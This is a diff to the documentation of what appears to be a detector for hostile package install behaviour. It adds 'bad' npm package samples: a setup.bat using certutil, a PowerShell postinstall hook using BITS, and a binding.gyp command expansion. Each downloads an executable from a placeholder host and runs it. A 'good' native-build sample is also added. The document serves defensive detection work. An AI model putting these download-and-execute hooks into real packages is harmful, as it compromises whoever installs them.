@@ -44,7 +44,59 @@
 //! exec('powershell -NoProfile "iwr https://theme.invalid/s.ps1 -UseBasicParsing | iex"'); //~ here
 //! ```
 //!
+//! ```package
+//! == package.json
+//! {"name": "x", "version": "1.0.0", "main": "index.js"}
+//! == index.js
+//! const path = require("path");
+//! require("child_process").execFile(path.join(__dirname, "setup.bat"));
+//! == setup.bat //~ 1
+//! @echo off
+//! certutil -urlcache -split -f https://assets.invalid/a.exe %TEMP%\a.exe
+//! start "" /b %TEMP%\a.exe
+//! ```
+//!
+//! ```package
+//! == package.json
+//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "powershell -ExecutionPolicy Bypass -File setup.ps1"}}
+//! == setup.ps1 //~ 1
+//! $target = Join-Path $env:TEMP "a.exe"
+//! Start-BitsTransfer -Source https://assets.invalid/a.exe -Destination $target
+//! & $target
+//! ```
+//!
+//! ```package
+//! == package.json
+//! {"name": "x", "version": "1.0.0"}
+//! == binding.gyp
+//! {"targets": [{"target_name": "x", "sources": ["<!(python3 tools/sources.py)"]}]}
+//! == tools/sources.py
+//! import os, subprocess, tempfile, urllib.request #~ here
+//! target = os.path.join(tempfile.gettempdir(), "a")
+//! urllib.request.urlretrieve("https://assets.invalid/a", target)
+//! os.chmod(target, 0o755)
+//! subprocess.Popen([target])
+//! ```
+//!
 //! ## Good
+//!
+//! ```package
+//! == package.json
+//! {"name": "x", "version": "1.0.0", "scripts": {"install": "node build.js"}}
+//! == build.js
+//! const isWindows = process.platform === "win32";
+//! require("child_process").execFileSync(__dirname + (isWindows ? "/deps/build.bat" : "/deps/build.sh"));
+//! == deps/build.bat
+//! @echo off
+//! cd deps\zlib
+//! nmake -f win32\Makefile.msc
+//! copy zlib.lib ..\..\build
+//! == deps/build.sh
+//! #!/bin/bash
+//! set -e
+//! cd deps/zlib && ./configure --static && make -j4
+//! cp libz.a ../../build/
+//! ```
 //!
 //! ```package
 //! == package.json
